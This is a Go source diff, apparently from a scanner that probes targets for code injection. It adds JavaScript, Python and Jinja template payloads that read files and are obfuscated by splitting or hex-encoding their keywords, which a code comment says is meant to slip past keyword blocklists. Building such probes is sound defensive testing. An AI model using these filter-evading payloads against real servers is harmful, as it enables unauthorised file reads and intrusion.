@@ -17,6 +17,8 @@ const (
 	javaScript = `import("fs").then(f=>f.readFileSync("@"))`
 	// machine is for those who take a context of its own for a wall: what is handed into it
 	// leads out.
+	// spelled, and that of Python and of Jinja below, have no word in them that a list of forbidden ones may have.
+	spelled = `globalThis["pro"+"cess"]["getBuiltin"+"Module"]("f"+"s")["read"+"FileSync"]("@")`
 	machine = `(p=>p.getBuiltinModule?p.getBuiltinModule("fs"):p.mainModule.require("fs"))(this.constructor.constructor("return process")()).readFileSync("@")`
 )
 
@@ -44,6 +46,9 @@ var codeForms = []form{
 	evaluated("as a call of open", `open("@")`),
 	evaluated("as an expression of JavaScript for a context of its own", machine),
 	evaluated("as YAML of Python", `!!python/object/apply:builtins.open ["@"]`),
+	evaluated("as an expression of JavaScript with its words in parts", spelled),
+	evaluated("as an expression of Python with its words in parts", `getattr(getattr(print,"_"+"_self_"+"_"),"op"+"en")("@")`),
+	evaluated("in a template of Jinja with its words in codes", `{{ (cycler|attr("\x5f\x5finit\x5f\x5f")|attr("\x5f\x5fglobals\x5f\x5f")).os.open("@",0) }}`),
 	evaluated("in a template of EJS", `<%= process.getBuiltinModule("fs").readFileSync("@") %>`),
 	evaluated("in a string of Python that is formatted", `{open("@")}`),
 	evaluated("in a template of Mako", `${open("@")}`),
@@ -76,7 +81,7 @@ var globals = lazyregexp.New(`\{'__name__': '[\w.]{1,64}', '__doc__': `)
 // The bounds of family Code: how many attempts there are against one target, at how many places
 // all forms are tried, and how many forms at the others.
 const (
-	maxCode       = 64
+	maxCode       = 68
 	maxCodeFields = 2
 	likelyCode    = 4
 )
